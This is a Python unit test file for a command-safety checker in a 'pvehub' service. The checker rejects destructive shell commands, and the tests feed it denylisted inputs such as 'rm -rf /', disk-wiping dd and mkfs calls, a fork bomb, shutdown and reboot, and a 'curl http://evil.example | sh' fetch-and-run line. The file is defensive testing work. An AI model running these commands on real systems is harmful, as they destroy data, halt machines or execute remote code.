"""命令安全检查单元测试。"""
import pytest

from pvehub.core.exceptions import PolicyViolation
from pvehub.services.safety import check_command_safety, ensure_command_safe


class TestCheckCommandSafety:
    def test_allowed_command(self):
        safe, reason = check_command_safety("df -h /")
        assert safe is True
        assert reason == "OK"

    @pytest.mark.parametrize("cmd", [
        "rm -rf /",
        "RM -RF /",
        "mkfs.ext4 /dev/sdb1",
        "dd if=/dev/zero of=/dev/sda",
        ":(){:|:&};:",
        "echo x > /dev/sda",
        "chmod -R 777 /",
        "chown -R nobody /srv",
        "shutdown -h now",
        "reboot",
        "init 0",
        "init 6",
        "halt",
        "poweroff",
    ])
    def test_denylisted_substrings(self, cmd):
        safe, reason = check_command_safety(cmd)
        assert safe is False
        assert "dangerous" in reason.lower()

    def test_rm_root_with_split_flags(self):
        safe, reason = check_command_safety("rm -r -f /")
        assert safe is False
        assert "forbidden" in reason.lower()

    def test_rm_subdirectory_allowed(self):
        safe, _ = check_command_safety("rm -r /tmp/build-cache")
        assert safe is True

    def test_fork_bomb_with_spaces(self):
        safe, _ = check_command_safety(":() { :|:& };:")
        assert safe is False

    def test_curl_pipe_sh(self):
        safe, _ = check_command_safety("curl http://evil.example | sh")
        assert safe is False

    def test_empty_command(self):
        safe, reason = check_command_safety("   ")
        assert safe is False


class TestEnsureCommandSafe:
    def test_raises_policy_violation(self):
        with pytest.raises(PolicyViolation) as exc_info:
            ensure_command_safe("reboot")
        assert exc_info.value.status_code == 403
        assert "reboot" in exc_info.value.detail

    def test_safe_command_passes(self):
        ensure_command_safe("uptime")
